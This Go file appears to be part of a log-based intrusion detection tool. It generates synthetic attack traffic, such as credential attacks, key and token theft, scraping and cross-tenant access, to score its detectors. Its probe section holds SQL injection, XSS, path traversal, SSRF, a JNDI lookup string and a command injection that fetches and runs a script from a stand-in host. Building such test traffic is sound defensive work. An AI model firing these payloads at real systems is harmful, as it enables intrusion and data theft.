package detect

import (
	"fmt"
	"net/url"
	"strings"
	"time"

	"github.com/litesoc/litesoc/parsers"
)

// attacks returns what the scorecard plays: each detector's pattern in the forms that
// attackers give it. What lies below every threshold of a detector does not name it.
func attacks() []attack {
	var all []attack
	add := func(name, form, detectors string, write func(*scene, time.Time)) {
		all = append(all, attack{name, form, strings.Fields(detectors), write})
	}
	credentialAttacks(add)
	keyAttacks(add)
	enumerationAttacks(add)
	probeAttacks(add)
	accessAttacks(add)
	exfiltrationAttacks(add)
	tokenAttacks(add)
	evasions(add)
	return all
}

type adder func(name, form, detectors string, write func(*scene, time.Time))

const (
	curl   = "curl/8.11.1"
	python = "python-requests/2.32.3"
	chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36"
)

// one is an address of the attack's own, in a network of its own.
func (s *scene) one() string { return s.hosts(1)[0] }

// hosts are addresses of one network of the attack's own.
func (s *scene) hosts(n int) []string {
	net := fmt.Sprintf("243.%d.%d.", s.label>>8, s.label&255)
	s.network(net+"0/24", "BR", 64600+uint32(s.label), -23.5, -46.6, 0)
	var ips []string
	for i := range n {
		ips = append(ips, fmt.Sprint(net, 1+i))
	}
	return ips
}

// spread are addresses of as many networks, as proxies in homes have them, of one country.
func (s *scene) spread(n int) []string {
	var ips []string
	for i := range n {
		net := fmt.Sprintf("%d.%d.%d.", 250+(s.label>>8), s.label&255, i)
		s.network(net+"0/24", "US", 70000+uint32(1000*s.label+i), 40.7, -74, 0)
		ips = append(ips, net+"9")
	}
	return ips
}

// home is an address where a victim is at home.
func (s *scene) home() string {
	net := fmt.Sprintf("241.%d.%d.", s.label>>8, s.label&255)
	s.network(net+"0/24", "DE", 9000000+uint32(s.label), 52.5, 13.4, 0)
	return net + "5"
}

// sixes are addresses of one IPv6 /64 of the attack's own, or each of another /64 of one
// /48: what whoever rents a machine has by the billion.
func (s *scene) sixes(n int, apart bool) []string {
	net := fmt.Sprintf("2001:db8:%x:", 0x1000+s.label)
	s.network(net+":/48", "BR", 64600+uint32(s.label), -23.5, -46.6, 0)
	var ips []string
	for i := range n {
		subnet := 1
		if apart {
			subnet += i
		}
		ips = append(ips, fmt.Sprintf("%s%x:%x:%x:%x:%x", net, subnet, 1+s.rand.IntN(1<<15), 1+s.rand.IntN(1<<15), s.rand.IntN(1<<16), 1+i))
	}
	return ips
}

// tor is an exit of Tor.
func (s *scene) tor() string {
	net := fmt.Sprintf("242.%d.%d.", s.label>>8, s.label&255)
	s.network(net+"0/24", "DE", 0, 0, 0, parsers.Tor)
	return net + "1"
}

// user is the account of the attack: its victim or its attacker.
func (s *scene) user() string { return fmt.Sprintf("account%d@example.com", s.label) }

// each writes n entries, a step apart but for a third of it either way.
func (s *scene) each(start time.Time, n int, step time.Duration, entryOf func(i int) entry) time.Time {
	at := start
	for i := range n {
		s.add(at, entryOf(i))
		at = at.Add(step*2/3 + time.Duration(s.rand.Int64N(int64(step)*2/3+1)))
	}
	return at
}

// exact writes n entries, a step apart.
func (s *scene) exact(start time.Time, n int, step time.Duration, entryOf func(i int) entry) {
	for i := range n {
		s.add(start.Add(time.Duration(i)*step), entryOf(i))
	}
}

// history writes what an actor does on the days before: n times some ordinary routes.
func (s *scene) history(start time.Time, days, n int, e entry) {
	begin := start.AddDate(0, 0, -days)
	for i := range n {
		h := e
		h.uri = []string{"/api/v1/orders?page=1&per_page=50", "/api/v1/me", "/api/v1/stock"}[i%3]
		s.add(begin.Add(time.Duration(i)*start.Sub(begin)/time.Duration(n)), h)
	}
}

func failedLogin(ip, user, ua string) entry {
	return entry{ip: ip, user: user, method: "POST", uri: "/api/v1/auth/login", status: 401, bytes: 57, ua: ua}
}

func credentialAttacks(add adder) {
	add("brute force", "fast", "brute-force-ip brute-force-account", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 200, time.Second, func(int) entry { return failedLogin(ip, s.user(), python) })
	})
	add("brute force", "slow", "brute-force-ip brute-force-account", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 60, 70*time.Second, func(int) entry { return failedLogin(ip, s.user(), chrome) })
	})
	add("brute force", "low-volume", "brute-force-ip", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 6, 9*time.Second, func(int) entry { return failedLogin(ip, s.user(), curl) })
	})
	add("brute force", "evasive", "brute-force-ip", func(s *scene, at time.Time) { // another way in, another name each time
		ip := s.one()
		s.each(at, 40, 8*time.Second, func(i int) entry {
			e := failedLogin(ip, "", browsers[i%len(browsers)])
			e.uri, e.status = "/oauth/token", 401
			return e
		})
	})
	add("brute force that works", "fast", "brute-force-ip", func(s *scene, at time.Time) {
		ip := s.one()
		at = s.each(at, 25, 2*time.Second, func(int) entry { return failedLogin(ip, s.user(), python) })
		s.add(at, entry{ip: ip, user: s.user(), method: "POST", uri: "/api/v1/auth/login", ua: python})
	})
	add("brute force of one account", "distributed", "brute-force-account", func(s *scene, at time.Time) {
		ips := s.spread(12)
		s.exact(at, 12, 4*time.Minute, func(i int) entry { return failedLogin(ips[i], s.user(), chrome) })
	})
	add("brute force of one account", "slow", "brute-force-account", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 24, 6*time.Minute, func(int) entry { return failedLogin(ip, s.user(), chrome) })
	})
	add("credential stuffing", "fast", "credential-stuffing brute-force-ip", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 300, 500*time.Millisecond, func(i int) entry { return failedLogin(ip, fmt.Sprintf("u%d@example.net", i), python) })
	})
	add("credential stuffing", "low-volume", "credential-stuffing", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 10, 59*time.Second, func(i int) entry { return failedLogin(ip, fmt.Sprintf("v%d@example.net", i), chrome) })
	})
	add("credential stuffing", "evasive", "credential-stuffing", func(s *scene, at time.Time) { // logs in itself now and then
		ip := s.one()
		s.each(at, 60, 12*time.Second, func(i int) entry {
			if i%5 == 4 {
				return entry{ip: ip, user: s.user(), method: "POST", uri: "/api/v1/auth/login", ua: chrome}
			}
			return failedLogin(ip, fmt.Sprintf("w%d@example.net", i), chrome)
		})
	})
	add("password spray", "distributed", "password-spray", func(s *scene, at time.Time) {
		ips := s.hosts(10)
		s.exact(at, 25, 2*time.Minute, func(i int) entry { return failedLogin(ips[i%10], fmt.Sprintf("p%d@example.net", i), chrome) })
	})
	add("password spray", "slow", "password-spray", func(s *scene, at time.Time) {
		ips := s.hosts(4)
		s.exact(at, 21, 170*time.Second, func(i int) entry { return failedLogin(ips[i%4], fmt.Sprintf("q%d@example.net", i), chrome) })
	})
	add("password spray over a day", "slow", "slow-spray", func(s *scene, at time.Time) {
		ips := s.hosts(3)
		s.each(at, 90, 9*time.Minute, func(i int) entry { return failedLogin(ips[i%3], fmt.Sprintf("t%d@example.net", i), agent(i)) })
	})
	add("password spray, one account in half an hour", "low-volume", "", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 40, 30*time.Minute, func(i int) entry { return failedLogin(ip, fmt.Sprintf("v%d@example.net", i), chrome) })
	})
	add("password spray", "fast", "password-spray credential-stuffing", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 90, 3*time.Second, func(i int) entry { return failedLogin(ip, fmt.Sprintf("r%d@example.net", i%45), python) })
	})
	add("distributed brute force", "distributed", "distributed-brute-force", func(s *scene, at time.Time) {
		ips := s.spread(80)
		s.each(at, 240, 2*time.Second, func(i int) entry { return failedLogin(ips[i%80], fmt.Sprintf("d%d@example.net", i), python) })
	})
	add("distributed brute force", "evasive", "distributed-brute-force", func(s *scene, at time.Time) { // each address once, each with a browser of its own
		ips := s.spread(120)
		s.each(at, 120, 4*time.Second, func(i int) entry {
			return failedLogin(ips[i], fmt.Sprintf("e%d@example.net", i), fmt.Sprintf("Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%d.0", 60+i, 60+i))
		})
	})
	add("new device", "low-volume", "new-device", func(s *scene, at time.Time) {
		home := s.home()
		for i := range 7 {
			s.add(at.Add(time.Duration(i-7)*13*time.Hour), entry{ip: home, user: s.user(), method: "POST", uri: "/api/v1/auth/login", ua: chrome})
		}
		s.add(at.Add(10*time.Hour), entry{ip: s.one(), user: s.user(), method: "POST", uri: "/api/v1/auth/login", ua: "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0"})
	})
	add("login through Tor", "low-volume", "suspicious-network", func(s *scene, at time.Time) {
		s.add(at, entry{ip: s.tor(), user: s.user(), method: "POST", uri: "/api/v1/auth/login", ua: chrome})
	})
	add("typos", "low-volume", "", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 4, 20*time.Second, func(int) entry { return failedLogin(ip, s.user(), chrome) })
	})
}

func keyAttacks(add adder) {
	key := func(s *scene) string { return fmt.Sprintf("ak_live_%032x", 7919*s.label) }
	add("stolen key at machine speed", "fast", "key-rate", func(s *scene, at time.Time) {
		e := entry{ip: s.home(), key: key(s), ua: "billing/3.1", uri: "/api/v1/orders?page=1&per_page=50"}
		for m := range 60 {
			s.exact(at.Add(time.Duration(m-60)*10*time.Minute), 8, 6*time.Second, func(int) entry { return e })
		}
		s.exact(at, 300, 150*time.Millisecond, func(int) entry { return e })
	})
	add("fresh key at machine speed", "fast", "key-rate", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 900, 50*time.Millisecond, func(int) entry {
			return entry{ip: ip, key: key(s), uri: "/api/v1/orders?page=1&per_page=50", ua: python}
		})
	})
	add("stolen key just above its pace", "evasive", "key-rate", func(s *scene, at time.Time) {
		home := s.home()
		for m := range 60 {
			s.exact(at.Add(time.Duration(m-60)*10*time.Minute), 8, 6*time.Second, func(int) entry {
				return entry{ip: home, key: key(s), ua: "billing/3.1", uri: "/api/v1/me"}
			})
		}
		ips := s.spread(20)
		s.exact(at, 200, 700*time.Millisecond, func(i int) entry {
			return entry{ip: ips[i%20], key: key(s), ua: "billing/3.1", uri: "/api/v1/me"}
		})
	})
	for _, form := range []string{"low-volume", "evasive"} {
		add("key in a new country", form, "key-geo", func(s *scene, at time.Time) {
			e := entry{ip: s.home(), key: key(s), ua: "billing/3.1"}
			s.history(at, 2, 200, e)
			if e.ip = s.one(); form == "low-volume" {
				e.ua = curl
			}
			e.uri = "/api/v1/me"
			s.add(at.Add(time.Hour), e)
			s.add(at.Add(2*time.Hour), e)
		})
	}
	for _, form := range []struct {
		name string
		step time.Duration
	}{{"fast", time.Second}, {"slow", 118 * time.Second}} {
		add("key on new routes", form.name, "key-routes", func(s *scene, at time.Time) {
			e := entry{ip: s.home(), key: key(s), ua: "billing/3.1"}
			s.history(at, 2, 200, e)
			routes := []string{"/api/v1/users", "/api/v1/exports", "/api/v1/api-keys", "/api/v1/audit", "/api/v1/billing/cards", "/api/v1/admin/users"}
			s.exact(at, len(routes), form.step, func(i int) entry {
				h := e
				h.uri = routes[i]
				return h
			})
		})
	}
	add("key guessing", "fast", "key-invalid/high", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 80, 2*time.Second, func(i int) entry {
			return entry{ip: ip, key: fmt.Sprintf("ak_live_%032x", 104729*i), uri: "/api/v1/me", status: 401, ua: python}
		})
	})
	add("key guessing", "slow", "key-invalid/high", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 24, 25*time.Second, func(i int) entry {
			return entry{ip: ip, key: fmt.Sprintf("ak_live_%032x", 15485863*i), uri: "/api/v1/me", status: 401, ua: chrome}
		})
	})
	add("dead key", "low-volume", "key-invalid", func(s *scene, at time.Time) {
		s.add(at, entry{ip: s.one(), key: key(s), uri: "/api/v1/me", status: 401, ua: curl})
	})
	add("beyond the limits", "fast", "rate-limit", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 50, time.Second, func(int) entry { return entry{ip: ip, key: key(s), uri: "/api/v1/search?q=a", status: 429, ua: python} })
	})
}

func enumerationAttacks(add adder) {
	words := func(i int) string {
		return fmt.Sprintf("/%s%d", []string{"backup", "api/internal", "v2/private", "debug", "old"}[i%5], i)
	}
	add("word list", "fast", "enumeration", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 500, 50*time.Millisecond, func(i int) entry { return entry{ip: ip, uri: words(i), status: 404, ua: "ffuf/2.1"} })
	})
	add("word list", "slow", "enumeration", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 31, 9900*time.Millisecond, func(i int) entry { return entry{ip: ip, uri: words(i), status: 404, ua: chrome} })
	})
	add("word list", "evasive", "enumeration", func(s *scene, at time.Time) { // amid pages that are there
		ip := s.one()
		s.each(at, 160, 2*time.Second, func(i int) entry {
			if i%3 > 0 {
				return entry{ip: ip, uri: "/blog/news-" + fmt.Sprint(i), ua: chrome}
			}
			return entry{ip: ip, uri: words(i) + "?v=" + fmt.Sprint(i), status: 404, ua: chrome}
		})
	})
	add("word list", "low-volume", "", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 30, 9*time.Second, func(i int) entry { return entry{ip: ip, uri: words(i), status: 404, ua: chrome} })
	})
	add("word list over a day", "slow", "slow-scan", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 130, 9*time.Minute, func(i int) entry { return entry{ip: ip, uri: words(i), status: 404, ua: chrome} })
	})
	add("word list over a day", "evasive", "slow-scan", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 300, 4*time.Minute, func(i int) entry {
			e := entry{ip: ip, uri: words(i), status: 404, ua: chrome}
			if i%2 == 0 {
				e.status = 403
			}
			return e
		})
	})
	counting := func(form string, n int, step time.Duration, id func(s *scene, i int) int, status func(i int) int) {
		add("counting through ids", form, "sequential-ids", func(s *scene, at time.Time) {
			e := entry{ip: s.one(), user: s.user(), token: "eyz" + s.user(), ua: python}
			s.exact(at, n, step, func(i int) entry {
				h := e
				h.uri, h.status = fmt.Sprintf("/api/v1/invoices/%d", id(s, i)), status(i)
				return h
			})
		})
	}
	counting("fast", 120, time.Second, func(_ *scene, i int) int { return 5001 + i }, func(int) int { return 200 })
	counting("slow", 12, 26*time.Second, func(_ *scene, i int) int { return 7001 + i }, func(i int) int { return 403 + i%2 })
	counting("low-volume", 10, 20*time.Second, func(_ *scene, i int) int { return 1001 + i }, func(int) int { return 404 })
	counting("evasive", 40, 4*time.Second, func(_ *scene, i int) int { return 9000 + (i*7)%40 }, func(i int) int { return 200 + 204*(i%2) })
	add("sweep of unguessable ids", "fast", "object-sweep", func(s *scene, at time.Time) {
		e := entry{ip: s.one(), user: s.user(), token: "eys" + s.user(), ua: python}
		s.each(at, 700, 3*time.Second, func(i int) entry {
			h := e
			h.uri = fmt.Sprintf("/api/v1/documents/%08x-0000-4000-8000-%012x", s.rand.Uint32(), s.rand.Uint64N(1<<48))
			return h
		})
	})
	add("sweep of unguessable ids", "evasive", "object-sweep", func(s *scene, at time.Time) { // a route that others use, from many addresses
		ips := s.spread(8)
		s.each(at, 500, 6*time.Second, func(i int) entry {
			return entry{ip: ips[i%8], user: s.user(), ua: chrome, uri: fmt.Sprintf("/api/v1/projects/%d", 1000+s.rand.IntN(40_000))}
		})
	})
	probePaths := []string{"/.env", "/.git/config", "/actuator/env", "/wp-login.php", "/phpinfo.php", "/server-status"}
	add("well-known paths", "fast", "undocumented", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 6, time.Second, func(i int) entry { return entry{ip: ip, uri: probePaths[i], status: 404, ua: "Go-http-client/1.1"} })
	})
	add("well-known paths", "slow", "undocumented", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 3, 290*time.Second, func(i int) entry { return entry{ip: ip, uri: probePaths[i], status: 404, ua: chrome} })
	})
	add("well-known paths", "evasive", "undocumented", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 4, 20*time.Second, func(i int) entry {
			return entry{ip: ip, uri: []string{"/%2eenv", "//.git/config", "/.aws/credentials?x=1", "/wp-login.php"}[i], status: 404, ua: chrome}
		})
	})
	add("campaign", "distributed", "coordinated", func(s *scene, at time.Time) {
		ips := s.spread(9)
		paths := []string{"/cgi-bin/luci/;stok=/locale", "/boaform/admin/formLogin", "/hnap1/setup", "/solr/admin/cores"}
		s.each(at, 36, 80*time.Second, func(i int) entry { return entry{ip: ips[i%9], uri: paths[i/9], status: 404, ua: "Mozilla/5.0"} })
	})
	add("campaign", "slow", "coordinated", func(s *scene, at time.Time) {
		ips := s.spread(6)
		s.exact(at, 18, 190*time.Second, func(i int) entry {
			return entry{ip: ips[i%6], uri: []string{"/remote/fgt_lang?lang=x", "/dana-na/auth/url_default/welcome.cgi", "/owa/auth/x.js"}[i/6], status: 404, ua: "Mozilla/5.0 zgrab/0.x"}
		})
	})
}

func probeAttacks(add adder) {
	probe := func(name, form string, payloads ...string) {
		add(name, form, "probe", func(s *scene, at time.Time) {
			ip := s.one()
			s.exact(at, len(payloads), 3*time.Second, func(i int) entry { return entry{ip: ip, uri: payloads[i], status: 400, ua: chrome} })
		})
	}
	q := url.QueryEscape
	probe("SQL injection", "fast", "/api/v1/search?q="+q("1' OR '1'='1' -- -"), "/api/v1/search?q="+q("1 UNION ALL SELECT NULL,NULL,version()-- "), "/api/v1/items?id="+q("1 AND SLEEP(5)"))
	probe("SQL injection", "low-volume", "/api/v1/search?q="+q("' UNION SELECT username, password FROM users--"))
	probe("SQL injection", "evasive", "/api/v1/items?id="+q(q("1/**/UNION/**/SELECT/**/password/**/FROM/**/users")), "/api/v1/items?id="+q("-1'/*!50000UNION*/ /*!50000SELECT*/ 1,2,3#"))
	probe("cross-site scripting", "fast", "/search?q="+q("<script>alert(document.cookie)</script>"), "/search?q="+q(`"><img src=x onerror=alert(1)>`))
	probe("cross-site scripting", "evasive", "/search?q="+q(q(`<svg/onload=alert(1)>`)), "/search?q="+q(`<ScRiPt>prompt(1)</sCrIpT>`))
	probe("path traversal", "fast", "/download?file="+q("../../../../etc/passwd"), "/static/..%2f..%2f..%2fetc%2fpasswd")
	probe("path traversal", "evasive", "/download?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd", `/download?file=..%5c..%5c..%5cwindows%5cwin.ini`)
	probe("command injection", "low-volume", "/ping?host="+q("127.0.0.1;cat /etc/passwd"))
	probe("command injection", "evasive", "/ping?host="+q("127.0.0.1|cat${IFS}/etc/passwd"), "/ping?host="+q("$(curl http://198.51.100.1/x|sh)"))
	probe("template injection", "low-volume", "/hello?name="+q("{{7*7}}"), "/hello?name="+q("${T(java.lang.Runtime).getRuntime().exec('id')}"))
	add("JNDI", "evasive", "probe", func(s *scene, at time.Time) {
		s.add(at, entry{ip: s.one(), uri: "/", ua: "${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}"})
	})
	add("scanner", "low-volume", "probe", func(s *scene, at time.Time) {
		s.add(at, entry{ip: s.one(), uri: "/", ua: "sqlmap/1.8.11#stable (https://sqlmap.org)"})
	})
	ssrf := func(form string, status int, targets ...string) {
		add("SSRF", form, "ssrf", func(s *scene, at time.Time) {
			ip := s.one()
			s.exact(at, len(targets), 20*time.Second, func(i int) entry {
				return entry{ip: ip, user: s.user(), method: "POST", uri: "/api/v1/webhooks?url=" + targets[i], status: status, ua: python}
			})
		})
	}
	ssrf("low-volume", 400, q("http://169.254.169.254/latest/meta-data/"))
	ssrf("fast", 201, q("http://127.0.0.1:6379/"), q("http://localhost:8080/admin"), q("http://10.0.0.5/"), q("http://192.168.1.1/"))
	for _, target := range []string{"http://[::1]/", "http://0.0.0.0/", "http://[::ffff:127.0.0.1]/", "https://localhost./", "http://metadata.google.internal/computeMetadata/v1/",
		"http://100.64.0.1/", "http://[fd00::1]/", "http://2130706433/", "http://0x7f.1/", "http://0177.0.0.1/", "http://127.1/", "http://127.0.0.1.nip.io/", "http://user@169.254.169.254/",
		"file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO"} {
		ssrf("evasive", 400, q(target))
	}
	ssrf("evasive", 400, q(q("http://169.254.169.254/latest/meta-data/iam/security-credentials/")))
}

func accessAttacks(add adder) {
	own := func(s *scene) string { return fmt.Sprintf("org_own%d", s.label) }
	crossing := func(form string, n, status int, uri func(i int) string) {
		add("other tenants' data", form, "cross-tenant", func(s *scene, at time.Time) {
			e := entry{ip: s.one(), user: s.user(), tenant: own(s), token: "eyt" + s.user(), ua: chrome}
			s.history(at, 1, 30, e)
			s.each(at, n, 20*time.Second, func(i int) entry {
				h := e
				h.uri, h.status = uri(i), status
				return h
			})
		})
	}
	crossing("low-volume", 1, 403, func(int) string { return "/api/v1/reports?org_id=org_xyz987" })
	crossing("fast", 20, 200, func(i int) string { return fmt.Sprintf("/api/v1/reports?org_id=org_victim%d", i) })
	crossing("slow", 6, 404, func(i int) string { return fmt.Sprintf("/api/v1/reports?org_id=org_other%d", i) })
	crossing("evasive", 4, 200, func(i int) string { return fmt.Sprintf("/api/v1/orgs/org_path%d/members", i) })
	add("other tenants' data, own learned", "evasive", "cross-tenant", func(s *scene, at time.Time) {
		e := entry{ip: s.one(), user: s.user(), token: "eyl" + s.user(), ua: chrome}
		s.exact(at.Add(-10*time.Hour), 40, 10*time.Minute, func(int) entry {
			h := e
			h.uri = "/api/v1/reports?org_id=" + own(s)
			return h
		})
		e.uri = "/api/v1/reports?org_id=org_xyz987"
		s.add(at, e)
	})
	denied := func(form string, n int, step time.Duration) {
		add("objects of others", form, "access-denied/high", func(s *scene, at time.Time) {
			ip := s.one()
			s.exact(at, n, step, func(int) entry {
				return entry{ip: ip, user: s.user(), uri: fmt.Sprintf("/api/v1/documents/%d", 100_000+s.rand.IntN(900_000)), status: 403, ua: chrome}
			})
		})
	}
	denied("fast", 30, time.Second)
	denied("slow", 5, 145*time.Second)
	add("features not paid for", "low-volume", "permission-denied", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 8, 30*time.Second, func(int) entry {
			return entry{ip: ip, user: s.user(), uri: "/api/v1/insights/forecast", status: 402, ua: chrome}
		})
	})
	for _, t := range []struct {
		form, uri string
		status    int
	}{
		{"low-volume", "/api/v1/users/me?role=admin", 403},
		{"fast", "/api/v1/users/me?is_admin=true", 200},
		{"evasive", "/api/v1/users/me?user%5Brole%5D=superadmin", 200},
		{"evasive", "/api/v1/profile?permissions=%5B%22*%22%5D", 200},
	} {
		add("role set", t.form, "role-tampering", func(s *scene, at time.Time) {
			s.add(at, entry{ip: s.one(), user: s.user(), method: "PATCH", uri: t.uri, status: t.status, ua: curl})
		})
	}
	admin := func(form string, step time.Duration, status int) {
		add("admin routes", form, "admin-probe", func(s *scene, at time.Time) {
			ip := s.one()
			s.exact(at, 5, step, func(i int) entry {
				return entry{ip: ip, user: s.user(), uri: []string{"/admin/users", "/admin/settings", "/api/v1/admin/flags", "/admin/audit", "/admin/billing"}[i], status: status, ua: chrome}
			})
		})
	}
	admin("fast", time.Second, 403)
	admin("slow", 3*time.Hour, 403)
	admin("evasive", 10*time.Minute, 404)
	deletion := func(form string, n int, step time.Duration) {
		add("mass deletion", form, "bulk-delete", func(s *scene, at time.Time) {
			ip := s.one()
			s.exact(at, n, step, func(i int) entry {
				return entry{ip: ip, user: s.user(), method: "DELETE", uri: fmt.Sprintf("/api/v1/projects/%d", 50_000+13*i), status: 204, ua: python}
			})
		})
	}
	deletion("fast", 200, time.Second)
	deletion("slow", 52, 11*time.Second)
}

func exfiltrationAttacks(add adder) {
	add("scraping", "fast", "bulk-export page-walk", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 600, time.Second, func(i int) entry {
			return entry{ip: ip, user: s.user(), uri: fmt.Sprintf("/api/v1/customers?page=%d&per_page=100", i+1), records: 100, bytes: 50_000, ua: python}
		})
	})
	add("scraping", "slow", "bulk-export", func(s *scene, at time.Time) { // astride the hour, in few large pages
		ip := s.one()
		s.exact(at, 21, 170*time.Second, func(i int) entry {
			return entry{ip: ip, user: s.user(), uri: fmt.Sprintf("/api/v1/customers?offset=%d&limit=500", 500*i), bytes: 250_000, ua: chrome}
		})
	})
	add("scraping", "evasive", "bulk-export page-walk", func(s *scene, at time.Time) { // by cursor, through proxies
		ips := s.spread(30)
		s.each(at, 400, 3*time.Second, func(i int) entry {
			return entry{ip: ips[i%30], user: s.user(), uri: fmt.Sprintf("/api/v1/customers?cursor=%016x&limit=100", s.rand.Uint64()), bytes: 50_000, ua: browsers[i%4]}
		})
	})
	add("scraping", "low-volume", "", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 45, 30*time.Second, func(i int) entry {
			return entry{ip: ip, user: s.user(), uri: fmt.Sprintf("/api/v1/customers?page=%d&per_page=100", i+1), ua: chrome}
		})
	})
	add("paging through a list", "slow", "page-walk", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 52, 11*time.Second, func(i int) entry {
			return entry{ip: ip, user: s.user(), uri: fmt.Sprintf("/api/v1/members?page=%d&per_page=20", i+1), ua: chrome}
		})
	})
	add("downloads", "fast", "byte-volume", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 60, 20*time.Second, func(i int) entry {
			return entry{ip: ip, user: s.user(), uri: fmt.Sprintf("/api/v1/files/%d/download", 60_000+37*i), bytes: 60 << 20, ua: python}
		})
	})
	add("downloads", "slow", "byte-volume", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 12, 290*time.Second, func(i int) entry {
			return entry{ip: ip, user: s.user(), uri: "/api/v1/backups/latest", bytes: 100 << 20, ua: python}
		})
	})
}

func tokenAttacks(add adder) {
	token := func(s *scene) string { return fmt.Sprintf("eyJ.stolen.%032x", 31337*s.label) }
	add("stolen token", "fast", "token-spread", func(s *scene, at time.Time) {
		home, thief := s.home(), s.one()
		s.exact(at, 40, 10*time.Second, func(i int) entry {
			if i%2 == 1 {
				return entry{ip: thief, user: s.user(), token: token(s), uri: "/api/v1/me", ua: curl}
			}
			return entry{ip: home, user: s.user(), token: token(s), uri: "/api/v1/me", ua: chrome}
		})
	})
	add("stolen token", "evasive", "token-spread", func(s *scene, at time.Time) { // the same browser, one country, many networks
		home, ips := s.home(), s.spread(6)
		s.exact(at, 40, 12*time.Second, func(i int) entry {
			if i%2 == 1 {
				return entry{ip: ips[i/2%6], user: s.user(), token: token(s), uri: "/api/v1/me", ua: chrome}
			}
			return entry{ip: home, user: s.user(), token: token(s), uri: "/api/v1/me", ua: chrome}
		})
	})
	travel := func(form string, gap time.Duration) {
		add("two places at once", form, "impossible-travel", func(s *scene, at time.Time) {
			s.add(at, entry{ip: s.home(), user: s.user(), method: "POST", uri: "/api/v1/auth/login", ua: chrome})
			s.add(at.Add(gap), entry{ip: s.one(), user: s.user(), method: "POST", uri: "/api/v1/auth/login", ua: chrome})
		})
	}
	travel("low-volume", 45*time.Minute)
	travel("slow", 8*time.Hour)
	resumed := func(form string, idle time.Duration) {
		add("token used after its owner left", form, "token-resumed", func(s *scene, at time.Time) {
			e := entry{ip: s.home(), token: token(s), uri: "/api/v1/me", ua: chrome}
			s.exact(at, 20, time.Minute, func(int) entry { return e })
			e.ip, e.ua = s.one(), python
			s.exact(at.Add(idle), 5, time.Minute, func(int) entry { return e })
		})
	}
	resumed("fast", 5*time.Hour)
	resumed("slow", 20*time.Hour)
	refresh := func(form string, n int, step time.Duration) {
		add("refreshing without end", form, "refresh-abuse", func(s *scene, at time.Time) {
			ip := s.one()
			s.exact(at, n, step, func(int) entry {
				return entry{ip: ip, user: s.user(), token: token(s), method: "POST", uri: "/api/v1/auth/refresh", ua: python}
			})
		})
	}
	refresh("fast", 60, 20*time.Second)
	refresh("slow", 12, 290*time.Second)
}
